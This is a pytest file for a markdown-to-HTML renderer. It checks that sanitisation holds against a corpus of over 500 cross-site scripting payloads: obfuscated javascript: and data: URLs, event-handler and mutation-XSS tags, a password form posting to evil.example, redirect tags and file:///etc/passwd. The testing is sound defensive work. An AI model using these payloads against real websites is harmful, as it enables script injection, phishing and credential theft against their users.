"""What a person or an alert wrote is shown, and never runs."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import product

import pytest

from tocsin.ground.render import pieces, render

_SCRIPTS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://example.com/1",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
]
_FORMS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "![x](<{}>)",
    "<{}>",
    "[x]: {}\n\n[x]",
    "[x]: <{}>\n\n[x][]",
    "> [x]({})",
    "- [ ] [x]({})",
    "| a |\n|---|\n| [x]({}) |",
    "# [x]({})",
    "[![x]({0})]({0})",
    '<a href="{}">x</a>',
    "**[x]({})**",
]
_TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' ",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<a id=location name=location>x</a>",
    "<div id=main class=hidden style='position:fixed;inset:0'>x</div>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea autofocus onfocus=alert(1)>",
    "<a href=x onmouseover=alert(1)>x</a>",
    '"><img src=x onerror=alert(1)>',
    "</p></div></main><script>alert(1)</script>",
]
_AROUND = [
    *(
        "{}",
        "# {}",
        "- {}",
        "> {}",
        "| a |\n|---|\n| {} |",
        "**{}**",
        "```{}\nx\n```",
        "```bash\n{}\n```",
        "`{}`",
    ),
    *("[{}](https://example.com)", '[x](https://example.com "{}")', "![{}](https://example.com/x.png)"),
]

CORPUS = [form.replace("{0}", url).replace("{}", url) for form, url in product(_FORMS, _SCRIPTS)] + [
    around.replace("{}", tag) for around, tag in product(_AROUND, _TAGS)
]


class _Reader(HTMLParser):
    """Notes every element and attribute as a browser's parser would see it."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.seen


_ALLOWED = {
    *("p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code", "a"),
    *("em", "strong", "s", "table", "thead", "tbody", "tr", "th", "td", "input", "label", "div"),
}


def test_the_corpus_is_large_enough_to_mean_something():
    assert len(CORPUS) >= 500


def test_nothing_of_the_corpus_runs_or_leads_astray():
    for text in CORPUS:
        for tag, attributes in elements(render(text)):
            assert tag in _ALLOWED, text
            assert not {name for name in attributes if name.startswith("on")}, text
            assert not {"style", "id", "name", "src", "action", "srcset"} & attributes.keys(), text
            href = attributes.get("href", "")
            squeezed = "".join(each for each in href if each > " ").replace("\\", "/").lower()
            assert not squeezed.startswith(("//", "javascript:", "data:", "vbscript:", "file:", "blob:")), (
                text
            )


def test_nothing_of_it_does_in_pieces_either():
    for text in CORPUS:
        for tag, attributes in elements("".join(piece.html for piece in pieces(text))):
            assert tag in _ALLOWED, text
            assert not {name for name in attributes if name.startswith("on")}, text
            assert not {"style", "name", "src", "action", "srcset"} & attributes.keys(), text
            assert re.fullmatch(r"L\d+", attributes.get("id", "L1")), text
            href = attributes.get("href", "")
            squeezed = "".join(each for each in href if each > " ").replace("\\", "/").lower()
            assert not squeezed.startswith(("//", "javascript:", "data:", "vbscript:", "file:", "blob:")), (
                text
            )


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("# Symptoms", "<h2>Symptoms</h2>\n"),
        ("###### deep", "<h6>deep</h6>\n"),
        ("a **b** `c`", "<p>a <strong>b</strong> <code>c</code></p>\n"),
        ("```bash\nls <x>\n```", '<pre><code class="language-bash">ls &lt;x&gt;\n</code></pre>\n'),
        ("<b>no</b>", "<p>&lt;b&gt;no&lt;/b&gt;</p>\n"),
        ("~~gone~~", "<p><s>gone</s></p>\n"),
    ],
)
def test_what_markdown_means_comes_through(markdown: str, html: str):
    assert render(markdown) == html


def test_good_links_stay_and_say_nothing_about_where_they_were_clicked():
    for href in (
        "https://example.com/a?b=c:d",
        "http://example.com",
        "mailto:mei@example.com",
        "other.md",
        "/alerts",
        "#top",
    ):
        [(_, attributes)] = [each for each in elements(render(f"[x]({href})")) if each[0] == "a"]
        assert attributes["href"] == href
        assert attributes["rel"] == "noopener noreferrer nofollow"


def test_an_image_is_a_link_and_asks_nobody_for_anything():
    html = render("![the graph](https://example.com/graph.png)")
    assert "<img" not in html
    assert '<a href="https://example.com/graph.png"' in html
    assert ">the graph</a>" in html


def test_a_table_scrolls_by_itself_and_by_keyboard():
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert '<div class="table" tabindex="0"><table>' in html
    assert "style" not in html


def test_a_task_list_shows_its_boxes_and_takes_no_clicks():
    boxes = [attributes for tag, attributes in elements(render("- [x] done\n- [ ] open")) if tag == "input"]
    assert ["checked" in box for box in boxes] == [True, False]
    assert all("disabled" in box and box["type"] == "checkbox" for box in boxes)


def test_headings_begin_below_the_title_of_the_page():
    assert render("# a\n## b", top=3) == "<h3>a</h3>\n<h4>b</h4>\n"


def test_deep_nesting_and_great_length_end_in_time():
    assert render("> " * 20_000 + "x")
    assert render("[" * 20_000)
    assert len(render("a" * 3_000_000)) < 1_100_000
